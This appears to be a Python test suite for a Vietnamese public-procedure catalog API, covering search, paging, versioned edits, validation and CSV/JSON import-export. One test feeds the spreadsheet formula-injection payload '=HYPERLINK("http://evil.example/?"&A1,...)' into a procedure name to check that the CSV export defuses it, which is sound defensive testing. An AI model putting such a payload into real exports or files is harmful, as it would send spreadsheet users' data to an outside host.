"""The procedure catalog over HTTP: search, one procedure and its versions,
bundles, and the admin's edits, imports and exports."""
import copy
import csv
import io
import json
import random
import unicodedata
import time
import urllib.parse

import harness


def q(path, **params):
    return path + "?" + urllib.parse.urlencode(params) if params else path


class CatalogBase(harness.ServerCase):
    def admin(self, method, path, body=None, headers=None, content_type="application/json"):
        h = dict(self.server.auth_headers("system_admin"))
        if body is not None:
            h["Content-Type"] = content_type
            if not isinstance(body, (bytes, str)):
                body = json.dumps(body, ensure_ascii=False)
            if isinstance(body, str):
                body = body.encode("utf-8")
        h.update(headers or {})
        return self.server.request(method, path, body=body, headers=h)

    def get(self, path, **params):
        status, headers, doc = self.server.get_json(q(path, **params))
        self.assertEqual(status, 200, doc)
        return headers, doc

    def export_json(self):
        status, _, data = self.admin("GET", q("/api/v1/procedures/export", format="json"))
        self.assertEqual(status, 200, data)
        return json.loads(data)



class Catalog(CatalogBase):
    """Reads only."""

    # --- search -----------------------------------------------------------

    def test_khai_sinh_ranks_birth_registration_first(self):
        _, doc = self.get("/api/v1/procedures", q="khai sinh")
        self.assertEqual(doc["items"][0]["code"], "1.001193", doc["items"][:3])
        self.assertEqual(doc["items"][0]["name"], "Thủ tục đăng ký khai sinh")
        codes = [i["code"] for i in doc["items"]]
        self.assertIn("2.000528", codes)  # birth with a foreign element comes too
        self.assertNotIn("1.000656", codes)  # death registration does not
        scores = [i["score"] for i in doc["items"]]
        self.assertEqual(scores, sorted(scores, reverse=True))

    def test_search_ignores_case_diacritics_and_tone_mark_placement(self):
        results = []
        for text in ["đăng ký khai sinh", "ĐĂNG KÝ KHAI SINH", "dang ky khai sinh", "Đa\u0306ng ky\u0301 khai sinh",
                     "  đăng  ký khai   sinh "]:
            _, doc = self.get("/api/v1/procedures", q=text, limit=50)
            results.append([i["code"] for i in doc["items"]])
        for r in results[1:]:
            self.assertEqual(r, results[0])
        _, a = self.get("/api/v1/procedures", q="hoà giải tranh chấp đất đai")
        _, b = self.get("/api/v1/procedures", q="hòa giai tranh chap dat dai")
        self.assertEqual(a["items"][0]["code"], "1.012812")
        self.assertEqual([i["code"] for i in a["items"]], [i["code"] for i in b["items"]])
        _, c = self.get("/api/v1/procedures", q="đăng ký kết hôn")
        _, d = self.get("/api/v1/procedures", q="dang ky ket hon")
        self.assertEqual(c["items"][0]["code"], "1.000894")
        self.assertEqual([i["code"] for i in c["items"]], [i["code"] for i in d["items"]])
        # "kí" for the catalog's "ký", as many write it: the same procedures
        # (it found one unrelated procedure, and only the foreign marriage).
        for written_i in ["đăng kí khai sinh", "dang ki khai sinh"]:
            _, e = self.get("/api/v1/procedures", q=written_i, limit=50)
            self.assertEqual([i["code"] for i in e["items"]], results[0], written_i)
        _, f = self.get("/api/v1/procedures", q="đăng kí kết hôn")
        self.assertEqual([i["code"] for i in f["items"]], [i["code"] for i in c["items"]])

    def test_search_reaches_components_and_codes(self):
        _, doc = self.get("/api/v1/procedures", q="giấy chứng sinh", limit=50)
        self.assertIn("1.001193", [i["code"] for i in doc["items"]])
        _, doc = self.get("/api/v1/procedures", q="1.004873")
        self.assertEqual(doc["items"][0]["code"], "1.004873")

    def test_facets_count_fields_levels_and_online_levels(self):
        _, doc = self.get("/api/v1/procedures", limit=200)
        total = doc["total"]
        self.assertGreaterEqual(total, 58)
        for facet in ("field", "level", "online_level"):
            self.assertEqual(sum(doc["facets"][facet].values()), total, facet)
        self.assertGreaterEqual(doc["facets"]["field"]["Hộ tịch"], 15)
        self.assertIn("province", doc["facets"]["level"])
        # A filter narrows the items and the other facets, not its own.
        _, f = self.get("/api/v1/procedures", field="Hộ tịch", limit=200)
        self.assertEqual(f["total"], doc["facets"]["field"]["Hộ tịch"])
        self.assertTrue(all(i["field"] == "Hộ tịch" for i in f["items"]))
        self.assertEqual(f["facets"]["field"], doc["facets"]["field"])
        self.assertEqual(sum(f["facets"]["online_level"].values()), f["total"])
        _, p = self.get("/api/v1/procedures", level="province", online_level="full")
        self.assertTrue(all(i["competent_level"] == "province" and i["online_level"] == "full" for i in p["items"]))

    def test_pages_follow_the_cursor_without_repeats(self):
        _, whole = self.get("/api/v1/procedures", q="thủ tục", limit=200)
        seen, cursor = [], None
        for _ in range(100):
            params = dict(q="thủ tục", limit=4)
            if cursor:
                params["cursor"] = cursor
            _, doc = self.get("/api/v1/procedures", **params)
            seen += [i["code"] for i in doc["items"]]
            cursor = doc["next_cursor"]
            if not cursor:
                break
        self.assertEqual(seen, [i["code"] for i in whole["items"]])

    def test_bad_search_parameters_name_the_parameter(self):
        for params, name in [(dict(level="district"), "level"), (dict(online_level="x"), "online_level"),
                             (dict(limit="0"), "limit"), (dict(cursor="abc"), "cursor"),
                             (dict(cursor=""), "cursor"), (dict(cursor="20"), "cursor"),
                             (dict(cursor="1~x~1.001193"), "cursor"), (dict(cursor="1~5~"), "cursor"),
                             (dict(cursor="-1~5~1.001193"), "cursor"), (dict(cursor="1~5"), "cursor")]:
            with self.subTest(params=params):
                status, headers, body = self.server.request("GET", q("/api/v1/procedures", **params))
                doc = self.assertProblem(status, headers, body, 400, name)
                self.assertIn(name, doc["detail"])
                self.assertIn(name, doc["detail_vi"])

    def test_field_filter_ignores_unicode_form_case_and_diacritics(self):
        _, nfc = self.get("/api/v1/procedures", field="Hộ tịch", limit=200)
        self.assertGreaterEqual(nfc["total"], 15)
        codes = [i["code"] for i in nfc["items"]]
        for text in [unicodedata.normalize("NFD", "Hộ tịch"), "hộ tịch", "HỘ TỊCH", "ho tich", " Hộ  tịch "]:
            with self.subTest(field=text):
                _, doc = self.get("/api/v1/procedures", field=text, limit=200)
                self.assertEqual(doc["total"], nfc["total"], doc["facets"])
                self.assertEqual([i["code"] for i in doc["items"]], codes)
                self.assertEqual(doc["facets"], nfc["facets"])
                # With a text query and through the pages of a cursor too.
                _, a = self.get("/api/v1/procedures", field=text, q="khai sinh", limit=200)
                _, b = self.get("/api/v1/procedures", field="Hộ tịch", q="khai sinh", limit=200)
                self.assertTrue(b["items"])
                self.assertEqual(a["items"], b["items"])
                seen, cursor = [], None
                for _ in range(20):
                    params = dict(field=text, limit=5)
                    if cursor:
                        params["cursor"] = cursor
                    _, page = self.get("/api/v1/procedures", **params)
                    seen += [i["code"] for i in page["items"]]
                    cursor = page["next_cursor"]
                    if not cursor:
                        break
                self.assertEqual(seen, codes)
        _, none = self.get("/api/v1/procedures", field="Hộ", limit=200)
        self.assertEqual(none["total"], 0)  # the whole field, not a prefix

    # --- one procedure, bundles -----------------------------------------

    def test_get_by_code_with_decentralisation(self):
        headers, doc = self.get("/api/v1/procedures/1.001612")
        self.assertEqual(doc["name"], "Đăng ký thành lập hộ kinh doanh")
        self.assertEqual(headers["etag"], '"%d"' % doc["version"])
        d = doc["decentralisation"]
        self.assertEqual((d["before_level"], d["after_level"], d["since"]), ("district", "commune", "2025-07-01"))
        self.assertTrue(d["decree"])
        self.assertEqual([v["version"] for v in doc["versions"]], [1])
        status, headers, body = self.server.request("GET", "/api/v1/procedures/9.999999")
        self.assertProblem(status, headers, body, 404)

    def test_procedures_without_detail_are_kept_and_flagged(self):
        _, doc = self.get("/api/v1/procedures/1.013978")
        self.assertEqual(doc["channels"], [])
        self.assertTrue(any(v["field"] == "channels" for v in doc["verify"]), doc["verify"])
        self.assertEqual(doc["original"]["detail_status"], "extraction_failed")
        # Two of them are filled from the legal texts.
        _, sig = self.get("/api/v1/procedures/2.000884")
        self.assertEqual(sig["channels"][0]["fee_vnd"], 10000)
        self.assertIn("23/2015/NĐ-CP", sig["legal_basis"])

    def test_additions_mark_what_is_unconfirmed(self):
        _, doc = self.get("/api/v1/procedures", q="giấy phép xây dựng nhà ở riêng lẻ")
        permit = doc["items"][0]
        self.assertIn("nhà ở riêng lẻ", permit["name"])
        _, full = self.get("/api/v1/procedures/" + permit["code"])
        flagged = {v["field"] for v in full["verify"]}
        self.assertIn("channels[0].fee_vnd", flagged)
        self.assertEqual(full["decentralisation"]["before_level"], "district")

    def test_bundles_list_their_member_procedures(self):
        _, doc = self.get("/api/v1/bundles")
        self.assertEqual(len(doc["items"]), 2)
        by_first = {b["members"][0]["code"]: b for b in doc["items"]}
        birth = by_first["1.001193"]
        self.assertEqual(len(birth["members"]), 3)
        self.assertTrue(all(m["name"] for m in birth["members"]))
        self.assertIn("thường trú", birth["members"][1]["name"])
        self.assertIn("bảo hiểm y tế", birth["members"][2]["name"])
        death = by_first["1.000656"]
        self.assertIn("Xóa đăng ký thường trú", [m["name"] for m in death["members"]])
        self.assertIn("63/2024/NĐ-CP", death["legal_basis"])


class CatalogAdmin(CatalogBase):
    """Edits change the catalog: a server of its own."""

    def procedure(self, code):
        _, doc = self.get("/api/v1/procedures/" + code)
        return doc

    def test_edit_makes_a_new_version_and_keeps_the_old_one(self):
        old = self.procedure("1.004873")
        edited = copy.deepcopy(old)
        fee = old["channels"][0]["fee_vnd"] + 1000 + random.randrange(1000)  # differs from any earlier run
        edited["channels"][0]["fee_vnd"] = fee
        edited["channels"][0]["fee_text"] = "%d đồng" % fee
        status, headers, body = self.admin("PUT", "/api/v1/procedures/1.004873", edited,
                                           {"If-Match": '"%d"' % old["version"]})
        self.assertEqual(status, 200, body)
        new = json.loads(body)
        self.assertEqual(new["version"], old["version"] + 1)
        self.assertEqual(headers["etag"], '"%d"' % new["version"])
        now = self.procedure("1.004873")
        self.assertEqual(now["channels"][0]["fee_vnd"], fee)
        self.assertEqual([v["version"] for v in now["versions"]][-2:], [old["version"], new["version"]])
        # The version a dossier was filed under is still there, unchanged.
        _, before = self.get("/api/v1/procedures/1.004873", version=old["version"])
        self.assertEqual(before["channels"][0]["fee_vnd"], old["channels"][0]["fee_vnd"])
        self.assertEqual(before["version"], old["version"])
        # Saving the same content again makes no version.
        status, _, body = self.admin("PUT", "/api/v1/procedures/1.004873", edited)
        self.assertEqual(json.loads(body)["version"], new["version"])
        # A stale If-Match is refused and changes nothing.
        status, headers, body = self.admin("PUT", "/api/v1/procedures/1.004873", old,
                                           {"If-Match": '"%d"' % old["version"]})
        self.assertProblem(status, headers, body, 412)
        self.assertEqual(self.procedure("1.004873")["version"], new["version"])

    def test_text_typed_decomposed_is_kept_composed(self):
        old = self.procedure("1.000894")
        edited = copy.deepcopy(old)
        edited["name"] = unicodedata.normalize("NFD", old["name"])
        self.assertNotEqual(edited["name"], old["name"])
        self.assertTrue(old["steps"])
        edited["steps"][0] = unicodedata.normalize("NFD", old["steps"][0])
        status, _, body = self.admin("PUT", "/api/v1/procedures/1.000894", edited)
        self.assertEqual(status, 200, body)
        # Composed, the edit is the procedure as it was: no new version.
        now = json.loads(body)
        self.assertEqual(now["name"], old["name"])
        self.assertEqual(now["steps"][0], old["steps"][0])
        self.assertEqual(now["version"], old["version"])

    def test_invalid_edit_is_400_naming_the_field_and_changes_nothing(self):
        before = self.procedure("1.000656")
        cases = [
            (lambda p: p["channels"][1].__setitem__("fee_vnd", -5), "channels[1].fee_vnd"),
            (lambda p: p.__setitem__("competent_level", "district"), "competent_level"),
            (lambda p: p["components"][0].__setitem__("copy_kind", "photocopy"), "components[0].copy_kind"),
            (lambda p: p.__setitem__("name", "  "), "name"),
            (lambda p: p.__setitem__("nmae", "typo"), "nmae"),
            (lambda p: p["channels"][0].__setitem__("time_amount", "three"), "channels[0].time_amount"),
            # Past 32 bits: 4294967311 stored as 15, a plausible time limit.
            (lambda p: p["channels"][0].__setitem__("time_amount", 4294967311), "channels[0].time_amount"),
            (lambda p: p["components"][0].__setitem__("quantity", 4294967297), "components[0].quantity"),
            (lambda p: p.__setitem__("code", "1.000657"), "code"),
            (lambda p: p.__setitem__("steps", ["Bước 1:\x00 nộp hồ sơ"]), "steps[0]"),
            (lambda p: p["channels"][0].__setitem__("fee_text", "miễn\x1b phí"), "channels[0].fee_text"),
        ]
        for change, field in cases:
            bad = copy.deepcopy(before)
            change(bad)
            status, headers, body = self.admin("PUT", "/api/v1/procedures/1.000656", bad)
            self.assertProblem(status, headers, body, 400, field)
        status, headers, body = self.admin("PUT", "/api/v1/procedures/1.000656", b"{not json")
        self.assertProblem(status, headers, body, 400)
        self.assertEqual(self.procedure("1.000656"), before)

    def test_create_and_retire(self):
        # A fresh code each run: a PostgreSQL test database may outlive one run.
        code = "L.9%05d" % random.randrange(100000)
        new = {"code": code, "name": "Thủ tục thử nghiệm cấp phép bến đò ngang", "field": "Giao thông",
               "competent_level": "commune", "online_level": "none",
               "channels": [{"channel": "counter", "time_amount": 5, "time_unit": "working_days", "fee_vnd": 0}],
               "components": [{"name": "Đơn đề nghị", "copy_kind": "original"}]}
        status, headers, body = self.admin("POST", "/api/v1/procedures", new)
        self.assertEqual(status, 201, body)
        self.assertEqual(headers["location"], "/api/v1/procedures/" + code)
        _, doc = self.get("/api/v1/procedures", q="ben do ngang")
        self.assertEqual([i["code"] for i in doc["items"]], [code])
        status, headers, body = self.admin("POST", "/api/v1/procedures", new)
        self.assertProblem(status, headers, body, 409, "code")
        online = copy.deepcopy(new)
        online["code"] = "L.8%05d" % random.randrange(100000)
        online["channels"][0]["channel"] = "online"
        status, headers, body = self.admin("POST", "/api/v1/procedures", online)
        self.assertProblem(status, headers, body, 400, "channels[0].channel")

        status, _, body = self.admin("POST", "/api/v1/procedures/%s/retire" % code)
        self.assertEqual(status, 200, body)
        self.assertTrue(json.loads(body)["retired"])
        _, doc = self.get("/api/v1/procedures", q="ben do ngang")
        self.assertEqual(doc["items"], [])
        _, doc = self.get("/api/v1/procedures/" + code)
        self.assertTrue(doc["retired"])
        status, _, _ = self.admin("DELETE", "/api/v1/procedures/9.999999")
        self.assertEqual(status, 404)

    def create_procedure(self, name, field):
        """Creates a procedure under a fresh code (a PostgreSQL test database may outlive one run)."""
        for _ in range(20):
            code = "L.6%05d" % random.randrange(100000)
            new = {"code": code, "name": name, "field": field, "competent_level": "commune",
                   "online_level": "none",
                   "channels": [{"channel": "counter", "time_amount": 5, "time_unit": "working_days",
                                 "fee_vnd": 0}],
                   "components": [{"name": "Đơn đề nghị", "copy_kind": "original"}]}
            status, _, body = self.admin("POST", "/api/v1/procedures", new)
            if status == 409:
                continue
            self.assertEqual(status, 201, body)
            return code
        self.fail("no free code")

    def test_pages_skip_or_repeat_nothing_when_procedures_are_retired_or_added_between_pages(self):
        # A field of this run's own, so the listing is this test's procedures only.
        field = "Thử nghiệm phân trang %06d" % random.randrange(1000000)
        words = "thử nghiệm phân trang"
        made = [self.create_procedure("Thủ tục thử nghiệm phân trang mục %d" % n, field) for n in range(25)]
        listing = dict(field=field, q=words, limit=10)

        def page(cursor):
            params = dict(listing)
            if cursor:
                params["cursor"] = cursor
            _, doc = self.get("/api/v1/procedures", **params)
            self.assertLessEqual(len(doc["items"]), 10)
            self.assertTrue(all(i["field"] == field for i in doc["items"]), doc["items"])
            return [i["code"] for i in doc["items"]], doc["next_cursor"]

        _, whole = self.get("/api/v1/procedures", field=field, q=words, limit=200)
        self.assertEqual(sorted(i["code"] for i in whole["items"]), sorted(made))
        seen, cursor = page(None)
        self.assertEqual(len(seen), 10)
        self.assertTrue(cursor)
        # A procedure of the first page is retired before the second is read.
        retired = seen[3]
        status, _, body = self.admin("POST", "/api/v1/procedures/%s/retire" % retired)
        self.assertEqual(status, 200, body)
        codes, cursor = page(cursor)
        seen += codes
        self.assertTrue(cursor)
        # Two are added before the third: one ranked first (the shortest name, the
        # whole phrase), one ranked last (the longest name).
        first = self.create_procedure("Thủ tục thử nghiệm phân trang", field)
        last = self.create_procedure("Thủ tục thử nghiệm phân trang mục cuối cùng, tên dài nhất danh sách", field)
        for _ in range(20):
            codes, cursor = page(cursor)
            seen += codes
            if not cursor:
                break
        _, final = self.get("/api/v1/procedures", field=field, q=words, limit=200)
        final = [i["code"] for i in final["items"]]
        self.assertEqual(final[0], first)
        self.assertEqual(final[-1], last)
        self.assertNotIn(retired, final)
        self.assertEqual(len(seen), len(set(seen)), "repeated: %s" % [c for c in seen if seen.count(c) > 1])
        # Every procedure of the final listing was seen, but the one added before
        # the pages already read.
        self.assertEqual([c for c in final if c not in seen], [first])
        self.assertEqual(set(seen), set(final) - {first} | {retired})
        # The pages keep the listing's order.
        self.assertEqual([c for c in seen if c != retired], [c for c in final if c != first])
        for code in made + [first, last]:  # leave nothing of this run in the catalog's search
            if code != retired:
                self.admin("POST", "/api/v1/procedures/%s/retire" % code)

    def test_malformed_import_names_row_and_field_and_imports_nothing(self):
        before = self.export_json()
        rows = copy.deepcopy(before["procedures"][:3])
        rows[0]["name"] = rows[0]["name"] + " (sửa)"
        rows.append({"code": "L.000950", "name": "Thủ tục mới", "field": "Thử", "competent_level": "commune",
                     "online_level": "full"})
        rows[2]["channels"] = [{"channel": "fax"}]
        status, headers, body = self.admin("POST", "/api/v1/procedures/import", rows)
        doc = self.assertProblem(status, headers, body, 400, "rows[3].channels[0].channel")
        self.assertIn("Row 3", doc["detail"])
        self.assertEqual(self.export_json(), before)
        # The same in CSV: the row and the column are named, nothing changes.
        text = "code,name,field,competent_level,online_level,channels\r\n" \
               "L.000951,Thủ tục A,Thử,commune,full,\r\n" \
               "L.000952,Thủ tục B,Thử,commune,full,\"[{\"\"channel\"\": \"\"post\"\", \"\"fee_vnd\"\": \"\"free\"\"}]\"\r\n"
        status, headers, body = self.admin("POST", "/api/v1/procedures/import", text, content_type="text/csv")
        self.assertProblem(status, headers, body, 400, "rows[2].channels[0].fee_vnd")
        status, headers, body = self.admin("POST", "/api/v1/procedures/import", "code,name,colour\r\nx,y,z\r\n",
                                           content_type="text/csv")
        self.assertProblem(status, headers, body, 400, "colour")
        # A control character, in JSON or CSV, is named by row and field too.
        rows = copy.deepcopy(before["procedures"][:2])
        rows[1]["name"] = "Thủ tục\x00 B"
        status, headers, body = self.admin("POST", "/api/v1/procedures/import", rows)
        doc = self.assertProblem(status, headers, body, 400, "rows[2].name")
        self.assertIn("U+0000", doc["detail"])
        text = "code,name,field,competent_level,online_level\r\nL.000953,Thủ\x07 tục,Thử,commune,full\r\n"
        status, headers, body = self.admin("POST", "/api/v1/procedures/import", text, content_type="text/csv")
        self.assertProblem(status, headers, body, 400, "rows[1].name")
        self.assertEqual(self.export_json(), before)

    def import_in_parts(self, rows, as_csv):
        """Imports rows in parts under the server's 1 MiB body limit; sums the reports."""
        total = {"created": 0, "updated": 0, "unchanged": 0}
        for part in (rows[: len(rows) // 2], rows[len(rows) // 2:]):
            if as_csv:
                out = io.StringIO()
                w = csv.DictWriter(out, fieldnames=list(part[0].keys()), lineterminator="\r\n")
                w.writeheader()
                w.writerows(part)
                status, _, body = self.admin("POST", "/api/v1/procedures/import", out.getvalue(),
                                             content_type="text/csv")
            else:
                status, _, body = self.admin("POST", "/api/v1/procedures/import", {"procedures": part})
            self.assertEqual(status, 200, body)
            for k in total:
                total[k] += json.loads(body)[k]
        return total

    def test_export_round_trip_json_and_csv(self):
        before = self.export_json()
        self.assertGreaterEqual(len(before["procedures"]), 58)
        self.assertEqual(len(before["bundles"]), 2)
        report = self.import_in_parts(before["procedures"], as_csv=False)
        self.assertEqual(report, {"created": 0, "updated": 0, "unchanged": len(before["procedures"])})
        status, headers, data = self.admin("GET", q("/api/v1/procedures/export", format="csv"))
        self.assertEqual(status, 200)
        self.assertTrue(headers["content-type"].startswith("text/csv"))
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        self.assertEqual([r["code"] for r in rows], [p["code"] for p in before["procedures"]])
        report = self.import_in_parts(rows, as_csv=True)
        self.assertEqual(report, {"created": 0, "updated": 0, "unchanged": len(rows)})
        self.assertEqual(self.export_json(), before)
        # An edited CSV row makes one new version of that procedure only.
        _, old = self.get("/api/v1/procedures/" + rows[0]["code"])
        rows[0]["result"] = "Kết quả đã sửa %f" % time.time()
        report = self.import_in_parts(rows, as_csv=True)
        self.assertEqual(report["updated"], 1, report)
        _, doc = self.get("/api/v1/procedures/" + rows[0]["code"])
        self.assertEqual(doc["result"], rows[0]["result"])
        self.assertEqual(len(doc["versions"]), len(old["versions"]) + 1)
        # A whole catalog in one request may run past the server's 1 MiB limit.
        whole = json.dumps({"procedures": before["procedures"]}) + " " * (3 << 19)
        status, _, body = self.admin("POST", "/api/v1/procedures/import", whole)
        self.assertEqual(status, 200, body[:300])
        self.assertEqual(json.loads(body)["unchanged"], len(before["procedures"]) - 1, body)
        # Bundles come back with a JSON import that carries them.
        status, _, body = self.admin("POST", "/api/v1/procedures/import",
                                     {"procedures": [], "bundles": before["bundles"]})
        self.assertEqual(json.loads(body)["bundles"], 2, body)
        _, doc = self.get("/api/v1/bundles")
        self.assertEqual([b["code"] for b in doc["items"]], [b["code"] for b in before["bundles"]])

    def test_csv_export_keeps_formula_like_text_as_text_and_imports_back_unchanged(self):
        # Text a catalog admin types is opened by others from the CSV download:
        # a cell a spreadsheet would run as a formula gets a leading ', as the
        # stats downloads do, and the import takes it off again.
        code = "1.013703"
        old = self.procedure(code)
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        edited = copy.deepcopy(old)
        edited["name"] = formula
        edited["competent_agency"] = "@SUM(1+1) Ủy ban nhân dân cấp xã"
        edited["result"] = "'=already quoted"  # a ' before a formula already: one more
        edited["steps"] = ["-1+1 nộp hồ sơ"] + old["steps"][1:]  # a JSON cell: starts with [
        status, _, body = self.admin("PUT", "/api/v1/procedures/" + code, edited)
        self.assertEqual(status, 200, body)
        try:
            status, _, data = self.admin("GET", q("/api/v1/procedures/export", format="csv"))
            self.assertEqual(status, 200, data)
            text = data.decode("utf-8")
            cell = ',"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'
            self.assertTrue(cell in text, "the name is not in the download as " + cell)
            rows = list(csv.DictReader(io.StringIO(text, newline="")))
            row = next(r for r in rows if r["code"] == code)
            self.assertEqual(row["name"], "'" + formula)
            self.assertEqual(row["competent_agency"], "'" + edited["competent_agency"])
            self.assertEqual(row["result"], "''=already quoted")
            self.assertEqual(json.loads(row["steps"])[0], "-1+1 nộp hồ sơ")
            for r in rows:
                for column, cell in r.items():
                    self.assertNotIn(cell[:1], ("=", "+", "-", "@", "\t", "\r"), (r["code"], column))
            # The download imported back is the catalog as it was, the edited
            # procedure's text included.
            before = self.export_json()
            report = self.import_in_parts(rows, as_csv=True)
            self.assertEqual(report, {"created": 0, "updated": 0, "unchanged": len(rows)})
            self.assertEqual(self.export_json(), before)
            now = self.procedure(code)
            for key in ("name", "competent_agency", "result", "steps"):
                self.assertEqual(now[key], edited[key], key)
        finally:
            # PostgreSQL runs share one database: the procedure as it was.
            status, _, body = self.admin("PUT", "/api/v1/procedures/" + code, old)
            self.assertEqual(status, 200, body)


if __name__ == "__main__":
    harness.run_suites([Catalog, CatalogAdmin])
